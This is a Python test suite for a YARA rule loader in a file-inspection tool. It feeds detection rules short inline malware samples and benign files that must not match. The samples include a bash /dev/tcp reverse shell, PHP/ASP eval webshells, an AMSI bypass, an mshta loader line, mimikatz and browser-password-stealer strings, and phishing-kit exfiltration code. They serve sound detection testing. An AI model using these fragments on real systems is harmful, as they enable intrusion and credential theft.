import base64
import io
import struct
from pathlib import Path

import pytest
import yara_x

from sekisho.inspect.rules import load_rules
from sekisho.inspect.yara_rules import load_yara

RULES = Path(__file__).parents[3] / "rules"


def matching(compiled, content):
    rules = yara_x.Rules.deserialize_from(io.BytesIO(compiled))
    return {(Path(r.namespace).name, r.identifier) for r in yara_x.Scanner(rules).scan(content).matching_rules}


def test_files_and_directories(tmp_path):
    (tmp_path / "below").mkdir()
    (tmp_path / "below" / "one.yara").write_text('rule same { strings: $a = "abc" condition: $a }')
    (tmp_path / "two.yar").write_text('rule same { strings: $a = "abd" condition: $a }')
    (tmp_path / "other.txt").write_text("no rule")
    compiled, problems = load_yara([tmp_path, tmp_path / "two.yar"])
    assert problems == []
    assert matching(compiled, b"abc abd") == {("one.yara", "same"), ("two.yar", "same")}


def test_nothing_to_load(tmp_path):
    assert load_yara([tmp_path]) == (b"", [])
    assert load_yara([]) == (b"", [])


def test_every_problem_at_once_with_file_and_line(tmp_path):
    (tmp_path / "a.yar").write_text('rule a {\n  condition: foo\n}\nrule b { condition: bar }\ninclude "b.yar"\n')
    (tmp_path / "b.yar").write_text('rule c { strings: $a = "x"\n condition: true and }')
    compiled, problems = load_yara([tmp_path, tmp_path / "none"])
    assert compiled == b""
    assert {(Path(p.file).name, p.line) for p in problems} >= {("a.yar", 2), ("a.yar", 4), ("b.yar", 2), ("none", 0)}
    assert all(p.text for p in problems)


def test_include_is_refused(tmp_path):
    (tmp_path / "a.yar").write_text('include "/etc/hostname"\n')
    _, problems = load_yara([tmp_path])
    assert [(p.line, "include" in p.text) for p in problems] == [(1, True)]


@pytest.mark.parametrize(
    "meta", ['finding = "dlp/x"', 'finding = "malware/A"', 'finding = "malware/a" severity = "bad"']
)
def test_our_metadata_is_checked(tmp_path, meta):
    (tmp_path / "a.yar").write_text(f"rule a {{ meta: {meta} condition: true }}")
    compiled, problems = load_yara([tmp_path])
    assert (compiled, len(problems)) == (b"", 1)


def test_other_peoples_metadata_is_theirs(tmp_path):
    (tmp_path / "a.yar").write_text('rule a { meta: severity = 75 author = "x" condition: true }')
    assert load_yara([tmp_path])[1] == []


def test_octets_that_are_no_text(tmp_path):
    (tmp_path / "a.yar").write_bytes(b"\xff\xfe\x00rule")
    assert load_yara([tmp_path])[1] != []


def test_each_finding_of_our_rules_is_documented():
    compiled, problems = load_yara([RULES])
    assert problems == []
    documented, toml_problems = load_rules([RULES])
    assert documented is not None, toml_problems
    rules = list(yara_x.Rules.deserialize_from(io.BytesIO(compiled)))
    assert len(rules) >= 20
    for rule in rules:
        metadata = dict(rule.metadata)
        assert metadata["finding"] in documented.by_id, rule.identifier
        assert metadata["title"], rule.identifier
        assert metadata["severity"], rule.identifier


def program(*sections, body=b""):
    """The least that is a PE file: headers, named sections, and what stands behind them."""
    header = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0"
    header += struct.pack("<HHIIIHH", 0x8664, len(sections), 0, 0, 0, 240, 0x22)
    optional = struct.pack("<H", 0x20B) + bytes(106) + struct.pack("<I", 16) + bytes(128)
    table = b"".join(name.ljust(8, b"\0") + bytes(32) for name in sections)
    return (header + optional + table).ljust(1024, b"\0") + body


VBA = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500) + b"Attribut\0e VB_Name "
LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
STEALER = b"\\Google\\Chrome\\User Data SELECT origin_url, username_value, password_value FROM logins"
PE64 = base64.b64encode(bytes.fromhex("4d5a90000300000004000000ffff0000b800000000000000")).replace(b"//8AALgA", b"")
SAMPLES = {
    "macro_downloader": VBA + b"AutoOpen URLDownloadToFileA WScript.Shell",
    "macro_shellcode": VBA + b"VirtualAlloc RtlMoveMemory CreateThread",
    "excel4_downloader": VBA[:8] + b"URLMON URLDownloadToFileA rundll32",
    "rtf_equation": rb"{\rt{\object\objupdate{\*\objdata 0105000002000000 0b000000 4571756174696f6e2e3300",
    "rtf_link_moniker": rb"{\rtf1{\object\objautlink\objupdate{\*\objdata e0c9ea79f9bace118c8200aa004ba90b",
    "pdf_launch_command": b"%PDF-1.4 <</S /Launch /Win<</F(cmd.exe)>>>>",
    "pdf_exploit_script": b"%PDF-1.4 Collab.collectEmailInfo(unescape('%u9090%u9090%u9090%u9090'))",
    "onenote_with_script": bytes.fromhex("e4525c7b8cd8a74d e716e3bd65261145a4c48d4d0b7a9eac") + b"powershell",
    "shortcut_loader": LINK + bytes(56) + "mshta http://a.example".encode("utf-16-le"),
    "disc_with_loader": bytes(0x8001) + b"CD001" + LINK + b"rundll32",
    "script_with_program": b'x = "' + PE64 + b'" : CreateObject("ADODB.Stream")',
    "powershell_shellcode": b"[DllImport(1)] VirtualAlloc CreateThread [Byte[]]$b [Marshal]::Copy(",
    "amsi_bypass": b"[Ref].GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed').SetValue(1)",
    "reverse_shell": b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "webshell_php": b"<?php @eval($_POST['x']);",
    "webshell_asp_jsp": b'<%eval request("x")%>',
    "upx_tampered": program(b"UPX0", b"UPX1"),
    "packed_to_hide": program(b".text", b".vmp0"),
    "password_stealer": STEALER,
    "credential_dumper": program(b".text", body=b"sekurlsa::logonpasswords gentilkiwi"),
    "stager_shellcode": bytes.fromhex("fc4883e4f0e8c000000041514150 52".replace(" ", "")),
    "reflective_implant": program(b".text", body=b"ReflectiveLoader beacon.x64.dll"),
    "remote_access_kit": program(b".text", body="Server_signa_ture Paste_bin".encode("utf-16-le")),
    "miner_program": program(b".text", body=b"donate.v2.xmrig.com"),
    "miner_settings": b'{"pools": [{"user": "x", "algo": "rx/0"}], "donate-level": 1}',
    "phishing_kit": b"<?php $msg .= 'Password: '.$_POST['password']; $_SERVER['REMOTE_ADDR']; mail($to, $s, $msg);",
    "phishing_page": b'<form><input type="password"></form><script>fetch("https://api.telegram.org/bot1/")</script>',
    "html_smuggling_program": b'<script>var a="' + PE64 + b'"; URL.createObjectURL(b)</script>',
    "html_smuggling_archive": b"<script>var a='UEsDBBQA" + b"A" * 100 + b"'; x = new Blob([atob(a)]);"
    b"l.href = URL.createObjectURL(x); l.download = 'a.zip'; l.click();</script>",
    "ransom_note": b"All of your files have been encrypted. Pay bitcoin. Do not rename. Decryption tool.",
}  # fmt: skip


@pytest.fixture(scope="module")
def ours():
    return load_yara([RULES])[0]


@pytest.mark.parametrize("rule", SAMPLES)
def test_each_rule_sees_what_it_is_for(ours, rule):
    assert rule in {identifier for _, identifier in matching(ours, SAMPLES[rule])}


def test_no_rule_is_without_a_sample(ours):
    rules = {r.identifier for r in yara_x.Rules.deserialize_from(io.BytesIO(ours))}
    assert rules - set(SAMPLES) == {"eicar_test_file"}  # through the whole job: test_job.py


@pytest.mark.parametrize(
    "content",
    [
        program(b".text", b".data"),
        program(b"UPX0", b"UPX1", body=b"").replace(bytes(20), b"UPX!" + bytes(16), 1),
        VBA + b"AutoOpen MsgBox",
        VBA + b"URLDownloadToFileA WScript.Shell",
        rb"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 4571756174696f6e2e3300",
        b"%PDF-1.4 <</S /URI /URI (https://a.example/cmd.exe)>>",
        b"<?php if (isset($_POST['password'])) { login($_POST['password']); mail($to, $subject, $body); }",
        b'<form action="/login" method="post"><input type="password"></form>',
        b"<script>l.href = URL.createObjectURL(new Blob([csv])); l.download = 'a.csv'; l.click();</script>",
        b"Newsletter: how ransomware works. Victims are told to pay bitcoin with the Tor Browser.",
        "お客様のファイルは暗号化されて送信されます。パスワードは別途お送りします。".encode(),
        b"How to defend against mimikatz: block sekurlsa.",
    ],
)
def test_everyday_files_match_nothing(ours, content):
    assert matching(ours, content) == set()
